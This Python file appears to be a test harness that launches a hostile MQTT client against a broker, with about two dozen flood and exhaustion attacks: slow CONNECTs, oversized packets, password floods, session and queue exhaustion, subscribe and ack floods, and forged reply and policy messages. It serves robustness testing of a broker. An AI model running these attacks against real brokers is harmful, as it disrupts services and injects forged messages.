"""A hostile MQTT client in a process of its own: ``… mqtt_attacker NAME HOST:PORT SECONDS``.

It presents the token in ``ATTACKER_TOKEN``, if any.
"""

import asyncio
import contextlib
import os
import random
import sys
from collections.abc import Awaitable, Callable, Iterator
from itertools import count

from tests.adapters import mqtt_bytes as wire

TOKEN = os.environ.get("ATTACKER_TOKEN", "")
LASTS = b"\x11" + (0xFFFFFFFF).to_bytes(4)
"""The property of a CONNECT whose session is to last for ever."""


def greeting(
    client: str, *, durable: bool = False, will: bytes = b"", clean: bool = True, token: str = TOKEN
) -> bytes:
    """Return CONNECT; ``will`` is what follows the client identifier."""
    flags = (2 if clean else 0) | (0xC0 if token else 0) | (4 if will else 0)
    login = wire.string("") + wire.string(token) if token else b""
    return wire.connect(client, flags=flags, keep=0, props=LASTS * durable, payload=will + login)


OPEN: list["Link"] = []
"""Nothing that is open is forgotten."""


class Link:
    """One connection that sends as fast as it is taken."""

    def __init__(self, place: str) -> None:
        self.host, _, port = place.rpartition(":")
        self.port = int(port)
        OPEN.append(self)

    async def open(self, *first: bytes, reads: bool = True) -> "Link":
        self.reader, self.writer = await asyncio.open_connection(self.host, self.port)
        self.writer.write(b"".join(first))
        if first:
            with contextlib.suppress(OSError):
                await self.reader.read(2)
        if reads:
            self.reading = asyncio.create_task(self._swallow())
        else:
            self.writer.transport.pause_reading()
        return self

    async def flood(self, parts: Iterator[bytes], pause: float = 0.0) -> None:
        with contextlib.suppress(OSError):
            for part in parts:
                self.writer.write(part)
                await self.writer.drain()
                await asyncio.sleep(pause)
                if self.writer.is_closing():
                    break

    def close(self) -> None:
        self.writer.close()
        OPEN.remove(self)

    async def _swallow(self) -> None:
        with contextlib.suppress(OSError):
            while await self.reader.read(262_144):
                pass


Attack = Callable[[str, int], Awaitable[None]]
"""One of several that do the same at the same time, by its number."""


def flooding(parts: Callable[[int], Iterator[bytes]], *, reads: bool = True) -> Attack:
    """Log in, then send; begin again whenever that ends."""

    async def attack(place: str, number: int) -> None:
        for turn in count():
            link = await Link(place).open(greeting(f"e{number}-{turn}"), reads=reads)
            await link.flood(parts(number))
            link.close()
            await asyncio.sleep(0.01)

    return attack


async def silent(place: str, number: int) -> None:
    """Connect and say nothing, many times over."""
    while True:
        with contextlib.suppress(OSError):
            links = [await Link(place).open() for _ in range(50)]
            await links[-1].reading


async def trickle(place: str, number: int) -> None:
    """Send a CONNECT byte by byte."""
    while True:
        with contextlib.suppress(OSError):
            link = await Link(place).open()
            await link.flood((bytes([b]) for b in greeting("x" * 200)), 1.0)


async def endless(place: str, number: int) -> None:
    """Begin packets that are too large, or whose length does not end."""
    for turn in count():
        for start in (b"\x30\xff\xff\xff\x7f", b"\x30\xff\xff\xff\xff", b"\x32\x80\x80\x80\x20"):
            link = await Link(place).open(greeting(f"e{number}-{turn}"))
            await link.flood(iter([start, *[b"x" * 65_536] * 1000]))
            link.close()


async def unfinished(place: str, number: int) -> None:
    """Send nearly all of the largest packet."""
    links = []
    for turn in range(20):
        link = await Link(place).open(greeting(f"u{number}-{turn}"))
        await link.flood(iter([b"\x30" + wire.variable(2_097_000), *[b"x" * 65_500] * 32]))
        links.append(link)
    await asyncio.Event().wait()


async def wrong_passwords(place: str, number: int) -> None:
    while True:
        with contextlib.suppress(OSError):
            token = random.randbytes(30_000).hex()
            link = await Link(place).open(greeting("x", token=token))
            await link.reading
            link.close()


async def take_overs(place: str, number: int) -> None:
    """Fight for one client id, with a will."""
    will = b"\0" + wire.string("evil/will") + wire.string("gone")
    while True:
        with contextlib.suppress(OSError):
            await Link(place).open(greeting("same", durable=True, will=will, clean=False))
            await asyncio.sleep(0.001)


async def sessions(place: str, number: int) -> None:
    """Leave sessions behind that queue what others publish."""
    subscribe = wire.subscribe(("evil/queue", 1), ("evil/free/+/+", 1), ("evil/free/#", 2))
    for turn in count():
        link = await Link(place).open(greeting(f"s{number}-{turn}", durable=True))
        await link.flood(iter([subscribe]))
        link.close()


def publishes(topic: str, size: int, qos: int = 0, *, fresh: bool = False) -> Iterator[bytes]:
    ids = count()
    while True:
        parts = []
        for _ in range(max(1, 65_536 // (size + 20))):
            number = next(ids)
            name = f"{topic}/{number}/{number}" if fresh else topic
            pid = number % 65_535 + 1 if qos else None
            parts.append(wire.publish(name, b"x" * size, first=0x30 | qos << 1, pid=pid))
        yield b"".join(parts)


async def queue_flood(place: str, number: int) -> None:
    """Durable sessions that are away, each with a topic of its own, and one who publishes."""
    own = []
    for turn in range(25):
        topic = f"evil/free/q{number}/{turn}"
        link = await Link(place).open(greeting(f"q{number}-{turn}", durable=True))
        await link.flood(iter([wire.subscribe((topic, 1))]))
        await asyncio.sleep(0.01)
        link.close()
        own.append(publishes(topic, 60_000, 1))
    link = await Link(place).open(greeting(f"p{number}"))
    await link.flood(next(each) for _ in count() for each in own)


async def fans(place: str, number: int) -> None:
    """Many sessions follow all topics, and one makes new ones."""
    if number:
        for turn in range(15):
            link = await Link(place).open(greeting(f"f{number}-{turn}"))
            await link.flood(iter([wire.subscribe(("evil/#", 0), ("+/free/#", 0))]))
    else:
        await asyncio.sleep(0.5)
        link = await Link(place).open(greeting("fan"))
        await link.flood(free_topics(0))
    await asyncio.Event().wait()


def subscribes(number: int) -> Iterator[bytes]:
    for turn in count():
        filters = [(f"+/{turn}-{n}/#", 2) for n in range(100)]
        yield wire.subscribe(*filters, pid=turn % 65_535 + 1)


def one_by_one(number: int) -> Iterator[bytes]:
    for turn in count():
        yield b"".join(wire.subscribe((f"a/{turn}-{n}", 0)) for n in range(500))


def large_subscribes(number: int) -> Iterator[bytes]:
    tail = b"/+" * 100
    while True:
        filters = [(f"{random.getrandbits(60)}".encode() + tail, 2) for _ in range(1900)]
        yield wire.subscribe(*filters)
        yield wire.unsubscribe(*(text for text, _ in filters))


def scans(number: int) -> Iterator[bytes]:
    """Make the site look at every channel, over and over."""
    while True:
        yield b"".join(
            wire.subscribe(("#", 0), ("+/+/+", 0)) + wire.unsubscribe("#", "+/+/+")
            for _ in range(200)
        )


def tiny_publishes(number: int) -> Iterator[bytes]:
    while True:
        yield wire.publish("evil/x", b"") * 20_000


def unknown_topics(number: int) -> Iterator[bytes]:
    while True:
        names = (f"no/{random.getrandbits(60)}/" + "%7e/" * 200 + "x" for _ in range(60))
        yield b"".join(wire.publish(name, b"", first=0x32, pid=1) for name in names)


def free_topics(number: int) -> Iterator[bytes]:
    return publishes(f"evil/free/{number}-{os.getpid()}", 10, fresh=True)


def unreleased(number: int) -> Iterator[bytes]:
    while True:
        yield b"".join(wire.publish("evil/x", b"x" * 10, first=0x34, pid=n + 1) for n in range(250))
        yield wire.ack(0x62, 65_000) * 2_000


def releases(number: int) -> Iterator[bytes]:
    while True:
        yield b"".join(wire.ack(0x62, n + 1) for n in range(10_000))


def acknowledgements(number: int) -> Iterator[bytes]:
    while True:
        yield b"".join(wire.ack(0x50, n + 1) for n in range(10_000))


def responses(number: int) -> Iterator[bytes]:
    """Call with huge Response Topics, and answer what others were asked."""
    long = b"\x08" + wire.string("$reply/good/" + "x" * 60_000)
    other = b"\x08" + wire.string("$reply/good/1")
    while True:
        yield b"".join(
            (
                wire.publish("nothing/m", b"x", props=long) * 5,
                wire.publish("Good/m", b"x", props=other) * 50,
                wire.publish("$reply/good/1", b"forged") * 50,
                wire.publish("$rpc/good/1/Good/m", b"forged") * 50,
                wire.publish("$call/Good/m/1", b"forged") * 50,
                *(wire.publish(f"$ret/Good/m/{n}", b"forged") for n in range(200)),
                wire.publish("$site/policy/apply", b"{}", props=b"\x08" + wire.string("r")) * 20,
            )
        )


def pings(number: int) -> Iterator[bytes]:
    while True:
        yield wire.PINGREQ * 30_000


async def deaf(place: str, number: int) -> None:
    """Subscribe and never read; others of the same kind publish."""
    if number % 4 == 3:
        link = await Link(place).open(greeting(f"d{number}"))
        await link.flood(publishes("evil/x", 2000, number % 3))
        return
    link = await Link(place).open(
        greeting(f"d{number}", durable=number % 4 == 2, clean=False), reads=False
    )
    await link.flood(iter([wire.subscribe(("evil/x", number % 3))]))
    await asyncio.Event().wait()


ATTACKS: dict[str, tuple[int, Attack]] = {
    "silent": (20, silent),
    "trickle": (1000, trickle),
    "endless": (20, endless),
    "unfinished": (40, unfinished),
    "wrong-passwords": (20, wrong_passwords),
    "take-overs": (20, take_overs),
    "sessions": (10, sessions),
    "queue-flood": (20, queue_flood),
    "fans": (20, fans),
    "subscribes": (4, flooding(subscribes)),
    "one-by-one": (4, flooding(one_by_one)),
    "large-subscribes": (4, flooding(large_subscribes)),
    "scans": (4, flooding(scans)),
    "tiny-publishes": (4, flooding(tiny_publishes)),
    "unknown-topics": (4, flooding(unknown_topics)),
    "free-topics": (4, flooding(free_topics)),
    "unreleased": (10, flooding(unreleased)),
    "releases": (4, flooding(releases)),
    "unread-releases": (20, flooding(releases, reads=False)),
    "unread-pings": (20, flooding(pings, reads=False)),
    "acknowledgements": (4, flooding(acknowledgements)),
    "responses": (4, flooding(responses)),
    "deaf": (20, deaf),
}


async def attack(name: str, place: str, seconds: float) -> None:
    number, start = ATTACKS[name]
    tasks = [asyncio.create_task(start(place, n)) for n in range(number)]
    print("attacking", flush=True)
    done, _ = await asyncio.wait(tasks, timeout=seconds, return_when=asyncio.FIRST_EXCEPTION)
    for task in done:
        task.result()


if __name__ == "__main__":
    asyncio.run(attack(sys.argv[1], sys.argv[2], float(sys.argv[3])))
    os._exit(0)
